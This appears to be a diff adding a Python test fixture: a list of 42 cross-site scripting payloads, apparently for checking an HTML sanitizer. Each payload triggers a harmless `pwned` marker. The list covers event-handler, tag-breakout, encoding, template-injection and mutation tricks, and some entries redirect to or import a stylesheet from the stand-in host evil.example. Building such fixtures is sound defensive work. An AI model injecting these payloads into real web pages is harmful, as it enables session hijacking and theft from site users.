@@ -1,0 +1,51 @@
+"""What somebody might write who would like other people's browsers to do as he wants.
+
+Each tries to call `pwned`, or leaves an element behind that has the attribute `data-pwned`.
+"""
+
+from __future__ import annotations
+
+PAYLOADS = [
+    "<script data-pwned>pwned(1)</script>",
+    "<ScRiPt data-pwned>pwned(2)</sCrIpT>",
+    "<script data-pwned src=data:text/javascript,pwned(3)></script>",
+    "<img data-pwned src=x onerror=pwned(4)>",
+    "<img/data-pwned/src=x/onerror=pwned(5)>",
+    "<svg data-pwned onload=pwned(6)>",
+    "<svg data-pwned><script>pwned(7)</script></svg>",
+    "<svg data-pwned><animate onbegin=pwned(8) attributeName=x dur=1s>",
+    '"><img data-pwned src=x onerror=pwned(9)>',
+    "'><img data-pwned src=x onerror=pwned(10)>",
+    '" autofocus onfocus=pwned(11) data-pwned="',
+    "' autofocus onfocus=pwned(12) data-pwned='",
+    "` onmouseover=pwned(13) data-pwned=`",
+    "x onmouseover=pwned(14) data-pwned",
+    "javascript:pwned(15)",
+    " java\tscript:pwned(16)",
+    "JaVaScRiPt:pwned(17)//",
+    "data:text/html,<script data-pwned>pwned(18)</script>",
+    "</title><script data-pwned>pwned(19)</script>",
+    "</textarea><script data-pwned>pwned(20)</script>",
+    "</style><script data-pwned>pwned(21)</script>",
+    "</script><script data-pwned>pwned(22)</script>",
+    "</option></select><img data-pwned src=x onerror=pwned(23)>",
+    "--><img data-pwned src=x onerror=pwned(24)>",
+    "]]><img data-pwned src=x onerror=pwned(25)>",
+    "{{constructor.constructor('pwned(26)')()}}",
+    "{{ ''.__class__.__mro__ }}{% raw %}<b data-pwned>27</b>",
+    "${pwned(28)}#{pwned(28)}<%= pwned(28) %>",
+    "&lt;img data-pwned src=x onerror=pwned(29)&gt;",
+    "&#60;img data-pwned src=x onerror=pwned(30)&#62;",
+    "%3Cimg%20data-pwned%20src=x%20onerror=pwned(31)%3E",
+    "\\u003cimg data-pwned src=x onerror=pwned(32)\\u003e",
+    "\uff1cimg data-pwned src=x onerror=pwned(33)\uff1e",
+    "\u202e<img data-pwned src=x onerror=pwned(34)>\u202c",
+    "<img data-pwned src=x\u2028onerror=pwned(35)>",
+    "<iframe data-pwned srcdoc='<script>parent.pwned(36)</script>'></iframe>",
+    "<a data-pwned href=javascript:pwned(37) autofocus onfocus=pwned(37)>x</a>",
+    "<form data-pwned action=javascript:pwned(38)><input autofocus onfocus=pwned(38)></form>",
+    "<details data-pwned open ontoggle=pwned(39)>",
+    "<base data-pwned href=//evil.example/><meta data-pwned http-equiv=refresh content=0;url=//evil.example>",
+    "<style data-pwned>@import '//evil.example/x.css'</style><link data-pwned rel=stylesheet href=//evil.example>",
+    "<math data-pwned><mtext></form><form><mglyph><style></math><img src onerror=pwned(42)>",
+]
